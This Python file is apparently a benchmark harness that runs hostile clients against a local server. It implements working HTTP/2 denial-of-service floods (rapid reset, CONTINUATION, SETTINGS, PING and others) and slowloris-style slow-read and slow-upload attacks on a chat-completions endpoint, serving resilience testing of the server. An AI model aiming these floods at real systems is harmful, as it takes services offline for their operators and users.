#!/usr/bin/env python3
"""Hostile clients for bench/slow: offender.py MODE PORT COUNT SECONDS. Prints one line of JSON at its end.

stall takes streamed answers byte by byte, upload sends a call's body byte by byte. The rest are floods of HTTP/2 frames
(RFC 9113), by clients that connect again whenever they are closed.
"""
import asyncio, json, socket, struct, sys, time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    return bytes([len(value)]) + value


# POST /v1/chat/completions, by HPACK's static table (RFC 7541, appendix A) and literals.
BLOCK = b"\x83\x86\x04" + text(b"/v1/chat/completions") + b"\x01" + text(b"bench") + b"\x0f\x10" + text(b"application/json")


def reset():
    for stream in range(1, 20001, 2):
        yield frame(HEADERS, END_HEADERS, stream, BLOCK) + frame(RST, 0, stream, struct.pack(">I", 8))


def requests():
    """Requests without end: nothing is ever reset, each is malformed in a way that makes the server reset it."""
    for stream in range(1, 20001, 2):
        yield frame(HEADERS, END_HEADERS, stream, BLOCK) + frame(WINDOW, 0, stream, struct.pack(">I", 0))


def continuation():
    yield frame(HEADERS, 0, 1, BLOCK)
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x00" + text(b"x-a") + text(b"b"))


def big_continuation():
    yield frame(HEADERS, 0, 1, BLOCK)
    while True:
        yield frame(CONTINUATION, 0, 1, (b"\x00" + text(b"x-a") + text(b"b" * 120)) * 128)


def settings():
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100))


def ping():
    while True:
        yield frame(PING, 0, 0, b"12345678")


def empty_data():
    yield frame(HEADERS, END_HEADERS, 1, BLOCK)
    while True:
        yield frame(DATA, 0, 1)


def priority():
    while True:
        yield frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15))


def window():
    while True:
        yield frame(WINDOW, 0, 0, struct.pack(">I", 1))


FLOODS = {"h2-reset": reset, "h2-requests": requests, "h2-continuation": continuation,
          "h2-big-continuation": big_continuation, "h2-settings": settings, "h2-ping": ping,
          "h2-empty-data": empty_data, "h2-priority": priority, "h2-window": window}


async def until_closed(reader):
    try:
        await reader.read(-1)
    except OSError:
        pass


async def flood(mode, port, until):
    """Floods until it is closed, again and again: how long each connection lived, and what it could send."""
    lives, sent = [], 0
    while time.time() < until:
        began = time.time()
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            ended = asyncio.create_task(until_closed(reader))
            writer.write(PREFACE + frame(SETTINGS, 0, 0))
            part = b""
            for one in FLOODS[mode]():
                part += one
                sent += 1
                if len(part) > 4096:
                    writer.write(part)
                    part = b""
                    await writer.drain()
                    await asyncio.sleep(0.001)
                    if ended.done() or time.time() - began > 10:
                        break
            writer.write(part)
            await asyncio.wait([ended], timeout=10)
            lives.append(time.time() - began if ended.done() else float("inf"))
            ended.cancel()
            writer.transport.abort()
        except OSError:
            lives.append(time.time() - began)
        await asyncio.sleep(0.2)
    return lives, sent


async def floods(mode, port, count, seconds):
    results = await asyncio.gather(*(flood(mode, port, time.time() + seconds) for _ in range(count)))
    lives = [life for ones, _ in results for life in ones]
    print(json.dumps({"connections": len(lives), "frames": sum(sent for _, sent in results), "longest": max(lives),
                      "mean": sum(lives) / len(lives)}))


HOST = "offender"


def head(length):
    return (f"POST /v1/chat/completions HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {length}\r\n\r\n").encode()


async def stalled(loop, s):
    """Asks for a long stream and takes 16 bytes of it every 5 s."""
    body = json.dumps({"model": "long", "messages": [], "stream": True}).encode()
    await loop.sock_sendall(s, head(len(body)) + body)
    while await loop.sock_recv(s, 16):
        await asyncio.sleep(5)


async def uploading(loop, s):
    """Begins a good call of 1 MB and sends 16 bytes of it every 3 s."""
    await loop.sock_sendall(s, head(1_000_000) + b'{"model":"sim","messages":[{"role":"user","content":"')
    while True:
        await loop.sock_sendall(s, b"a" * 16)
        try:
            if not await asyncio.wait_for(loop.sock_recv(s, 4096), 3):
                return
        except asyncio.TimeoutError:
            pass


SLOW = {"stall": stalled, "upload": uploading}


async def one_slow(client, port, seconds):
    loop = asyncio.get_running_loop()
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.setblocking(False)
        try:
            await loop.sock_connect(s, ("127.0.0.1", port))
            await asyncio.wait_for(client(loop, s), seconds)
        except (OSError, asyncio.TimeoutError):
            pass


async def slow(client, port, count, seconds):
    tasks = []
    for i in range(count):
        tasks.append(asyncio.create_task(one_slow(client, port, seconds)))
        if i % 20 == 0:
            await asyncio.sleep(0.01)
    await asyncio.gather(*tasks)
    print(json.dumps({"connections": count}))


if __name__ == "__main__":
    if sys.argv[1] in SLOW:
        asyncio.run(slow(SLOW[sys.argv[1]], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])))
    else:
        asyncio.run(floods(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])))
